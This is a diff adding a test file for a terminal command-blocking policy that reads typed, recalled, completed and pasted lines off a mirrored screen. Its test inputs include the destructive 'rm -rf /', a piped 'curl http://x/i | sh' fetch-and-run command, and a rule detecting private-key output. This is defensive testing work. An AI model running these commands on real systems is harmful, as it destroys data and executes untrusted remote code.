@@ -1,0 +1,188 @@
+// The command policy reads the line off a headless terminal that follows the screen: these drive it with the
+// bytes a shell would print (echo, redraws after history recall and completion, a bracketed paste) and check
+// what it would run.
+import { describe, expect, it } from "vitest";
+import { CompiledRules } from "@/lib/command-policy/rule-matcher";
+import type { SessionRules } from "@/lib/command-policy/rule-book";
+import type { CommandRuleRow } from "@/lib/command-policy/rules";
+import { CommandPolicy } from "@/server/inspector/command-policy";
+
+const rule = (pattern: string, kind: "command" | "output" = "command"): CommandRuleRow =>
+  ({ id: pattern, name: pattern, kind, matchMode: "regex", pattern, action: "block", severity: "high", holdSeconds: 60, enabled: true }) as CommandRuleRow;
+
+function policyWith(rules: CommandRuleRow[]) {
+  // The node's matching worker stands apart (test/integration/match-worker.test.ts); these rules match in place.
+  const ruleSet = (kind: "command" | "output") => {
+    const compiled = new CompiledRules(rules.filter((candidate) => candidate.kind === kind));
+    return { rules: compiled.rules, size: compiled.size, match: async (subjects: string[]) => compiled.match(subjects) };
+  };
+  const sets = { command: ruleSet("command"), output: ruleSet("output") };
+  const sessionRules = { of: (kind: "command" | "output") => sets[kind] } as unknown as SessionRules;
+  return new CommandPolicy(sessionRules, { cols: 40, rows: 10 });
+}
+
+const prompt = "user@db:~$ ";
+const bytes = (text: string) => Buffer.from(text, "utf8");
+
+/** Types keys one by one, each echoed as a shell would, then waits for the mirror to take them in. */
+async function typeEchoed(policy: CommandPolicy, keys: string, echo = keys) {
+  policy.keys(bytes(keys));
+  policy.output(bytes(echo));
+  await policy.echo();
+}
+
+async function enter(policy: CommandPolicy) {
+  const at = policy.nextEnter(bytes("\r"));
+  expect(at).toBe(0);
+  return await policy.atEnter();
+}
+
+describe("the command policy reads the line at Enter off the screen", () => {
+  it("sees what was typed, and nothing of the prompt", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "rm -rf /");
+    expect((await enter(policy))?.subject).toBe("rm -rf /");
+  });
+
+  it("sees a line edited with Backspace as the shell shows it", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "rm -rf /tmp");
+    await typeEchoed(policy, "\x7f\x7f\x7f", "\b \b\b \b\b \b");
+    expect((await enter(policy))?.subject).toBe("rm -rf /");
+  });
+
+  it("sees a command recalled from history (the shell redraws the line)", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "\x1b[A", "rm -rf /");
+    expect((await enter(policy))?.subject).toBe("rm -rf /");
+  });
+
+  it("sees a completion redrawn below a list of candidates", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "rm -rf ");
+    await typeEchoed(policy, "\t\t", `\r\nbin/  boot/  etc/\r\n${prompt}rm -rf `);
+    await typeEchoed(policy, "/");
+    expect((await enter(policy))?.subject).toBe("rm -rf /");
+  });
+
+  it("waits for the echo of a paste that arrives with its Enter", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    policy.keys(bytes("rm -rf /"));
+    const verdict = policy.atEnter();
+    expect(verdict).toBeInstanceOf(Promise);
+    setTimeout(() => policy.output(bytes("rm -rf /")), 20);
+    expect((await verdict)?.subject).toBe("rm -rf /");
+  });
+
+  it("does not take an Enter inside a bracketed paste for one, where the program asked for such pastes", async () => {
+    const policy = policyWith([rule("rm")]);
+    policy.output(bytes(`\x1b[?2004h${prompt}`));
+    await policy.echo();
+    expect(policy.nextEnter(bytes("\x1b[200~ls\rrm -rf /\x1b[201~"))).toBe(-1);
+    expect(policy.nextEnter(bytes("\r"))).toBe(0);
+  });
+
+  it("takes an Enter inside paste markers for one where the program never asked for them", () => {
+    const policy = policyWith([rule("rm")]);
+    expect(policy.nextEnter(bytes("\x1b[200~rm -rf /\r\x1b[201~"))).toBe(14);
+  });
+
+  it("reads a multi-line paste as all its lines", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "ls", "ls\r\nrm -rf /");
+    const match = await enter(policy);
+    expect(match?.subject).toContain("rm -rf /");
+  });
+
+  it("reads a long line wrapped over several rows as one", async () => {
+    const policy = policyWith([rule("^echo a+ && rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, `echo ${"a".repeat(60)} && rm -rf /`);
+    expect((await enter(policy))?.subject).toBe(`echo ${"a".repeat(60)} && rm -rf /`);
+  });
+
+  it("ignores Enter in a full-screen program", async () => {
+    const policy = policyWith([rule("rm")]);
+    policy.output(bytes(`${prompt}vim\r\n\x1b[?1049h`));
+    await typeEchoed(policy, "irm -rf /", "rm -rf /");
+    expect(await enter(policy)).toBeNull();
+  });
+
+  it("starts a new line after Ctrl-C: an allowed prefix is gone, the next line is read alone", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "echo safe");
+    await typeEchoed(policy, "\x03", `^C\r\n${prompt}`);
+    await typeEchoed(policy, "rm -rf /");
+    expect((await enter(policy))?.subject).toBe("rm -rf /");
+  });
+
+  it("reads a command continued over several Enters (\\, an open quote, a trailing pipe) as one", async () => {
+    const policy = policyWith([rule("^rm -rf /$"), rule("curl [^|]*\\| *sh")]);
+    /** As the session does: the Enter goes out (or the line is cleared), then the shell answers. */
+    const afterEnter = async (ran: boolean, answer: string) => {
+      policy.keys(bytes("\r"));
+      policy.lineEnded(ran);
+      policy.output(bytes(answer));
+      await policy.echo();
+    };
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "rm \\");
+    expect(await enter(policy)).toBeNull();
+    await afterEnter(true, "\r\n> ");
+    await typeEchoed(policy, "-rf /");
+    expect((await enter(policy))?.subject).toBe("rm \\\n-rf /");
+    await afterEnter(false, `\r\n${prompt}`);
+    await typeEchoed(policy, "curl http://x/i |");
+    expect(await enter(policy)).toBeNull();
+    await afterEnter(true, "\r\n> ");
+    await typeEchoed(policy, "sh");
+    expect((await enter(policy))?.rules).toHaveLength(1);
+  });
+
+  it("withholds a paste whose start scrolled past what the mirror keeps, rather than read only its end", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    policy.output(bytes(`\x1b[?2004h${prompt}`));
+    await typeEchoed(policy, "\x1b[200~", "");
+    const pasted = ["rm -rf /", ...Array.from({ length: 600 }, (_, index) => `echo ${index}`)];
+    await typeEchoed(policy, pasted.join("\r"), pasted.join("\r\n"));
+    expect(policy.nextEnter(bytes("\x1b[201~\r"))).toBe(6);
+    const match = await policy.atEnter();
+    expect(match?.unchecked).toBe("too_long");
+    expect(match?.rules).toHaveLength(1);
+  });
+
+  it("follows the command's first row as a full scrollback scrolls", async () => {
+    const policy = policyWith([rule("^rm -rf /")]);
+    for (let index = 0; index < 600; index++) policy.output(bytes(`line ${index}\r\n`));
+    policy.output(bytes(prompt));
+    await typeEchoed(policy, "\x1b[200~", "");
+    const pasted = ["rm -rf /", "echo a", "echo b", "echo c", "echo d", "echo e", "echo f", "echo g", "echo h", "echo i", "echo j", "echo k"];
+    await typeEchoed(policy, pasted.join("\r"), pasted.join("\r\n"));
+    expect(policy.nextEnter(bytes("\x1b[201~\r"))).toBe(6);
+    expect((await policy.atEnter())?.subject).toBe(pasted.join("\n"));
+  });
+
+  it("matches output lines against output rules, at most 100 a second", async () => {
+    const policy = policyWith([rule("BEGIN [A-Z ]*PRIVATE KEY", "output")]);
+    const flood = Array.from({ length: 500 }, () => "-----BEGIN OPENSSH PRIVATE KEY-----\r\n").join("");
+    expect(await policy.output(bytes(flood), 1_000)).toHaveLength(100);
+    expect(policy.output(bytes(flood), 1_500)).toBeNull();
+    expect(await policy.output(bytes(flood), 2_100)).toHaveLength(100);
+  });
+
+  it("keeps only a bounded tail of a flood while nobody types, and still reads the line after it", async () => {
+    const policy = policyWith([rule("^rm -rf /$")]);
+    const line = `${"x".repeat(79)}\r\n`;
+    for (let index = 0; index < 20_000; index++) policy.output(bytes(line), 0);
+    policy.output(bytes(prompt), 0);
+    await typeEchoed(policy, "rm -rf /");
+    expect((await enter(policy))?.subject).toBe("rm -rf /");
+  });
+});
